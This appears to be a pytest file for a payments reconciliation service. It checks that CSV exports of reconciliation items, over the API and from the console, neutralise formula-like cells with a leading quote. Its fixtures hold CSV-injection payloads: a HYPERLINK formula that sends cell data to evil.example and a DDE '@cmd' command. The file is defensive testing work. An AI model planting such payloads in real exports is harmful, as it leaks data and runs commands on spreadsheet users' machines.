"""A run's items exported as CSV, over the API and from the console: a statement line or a
provider's report whose text would run as a formula in a spreadsheet comes out quoted, every
cell of it (``csv_cell``); the amounts stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import httpx
import pytest

from payments.domain.csv_cells import FORMULA_STARTS
from payments.reconcile.usecases.day import reconcile_day
from payments.unit_of_work import SqlUnitOfWorkFactory
from tests.support.api import api_client
from tests.support.console_pages import signed_in
from tests.support.console_uploads import Day, make_day
from tests.support.reconcile_days import DAY, NIGHT, import_csv, import_vnpay, vnpay_report

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
COMMAND = "@cmd|' /C calc'!A0"
SUM = "-2+3"


@pytest.fixture
async def run_id(uow_factory: SqlUnitOfWorkFactory, day: Day) -> int:
    """The day's run: the treasury has the first payment and two batch lines of no known
    batch (unknown at the gateway), VNPay reports the first payment and one it never had."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["booking_date", "amount", "currency", "payment_reference", "batch_reference"])
    writer.writerow([DAY.isoformat(), 150_000, "VND", day.paid[0], ""])
    writer.writerow([DAY.isoformat(), 40_000, "VND", "", HYPERLINK])
    writer.writerow([DAY.isoformat(), 30_000, "VND", "", COMMAND])
    await import_csv(uow_factory, out.getvalue().encode())
    await import_vnpay(uow_factory, vnpay_report((day.paid[0], 150_000), (SUM, 20_000)))
    return (await reconcile_day(uow_factory, DAY, now=NIGHT)).run.id


@pytest.fixture
async def day(uow_factory: SqlUnitOfWorkFactory) -> Day:
    return await make_day(uow_factory)


@pytest.fixture
async def client(database_url: str) -> AsyncIterator[httpx.AsyncClient]:
    async with api_client(database_url) as http:
        yield http


def assert_no_formula(exported: httpx.Response) -> list[dict[str, str]]:
    assert exported.status_code == 200, exported.text
    assert exported.headers["content-type"].startswith("text/csv")
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    assert [cell for cell in cells if cell[:1] in FORMULA_STARTS] == []
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    by_batch = {row["batch_reference"]: row for row in rows if row["batch_reference"]}
    assert set(by_batch) == {"'" + HYPERLINK, "'" + COMMAND}
    # The amounts are numbers, written as digits: what a spreadsheet reads as a number.
    assert by_batch["'" + HYPERLINK]["treasury_amount"] == "40000"
    assert by_batch["'" + HYPERLINK]["outcome"] == "unknown_at_gateway"
    [unknown] = [row for row in rows if row["outcome"] == "provider_unknown"]
    assert (unknown["reference"], unknown["treasury_amount"]) == ("'" + SUM, "20000")
    return rows


async def test_the_api_export_quotes_every_formula(
    client: httpx.AsyncClient, day: Day, run_id: int
) -> None:
    exported = await client.get(
        f"/v1/reconciliation/runs/{run_id}/items.csv",
        headers={"Authorization": f"Bearer {day.key}"},
    )
    rows = assert_no_formula(exported)
    assert {row["outcome"] for row in rows} >= {"matched", "unknown_at_gateway"}


async def test_the_console_export_quotes_every_formula(
    client: httpx.AsyncClient, day: Day, run_id: int
) -> None:
    assert (await signed_in(client, day.key)).status_code == 303
    exported = await client.get(f"/console/runs/{run_id}/items.csv?outcome=all")
    assert "attachment" in exported.headers["content-disposition"]
    assert_no_formula(exported)
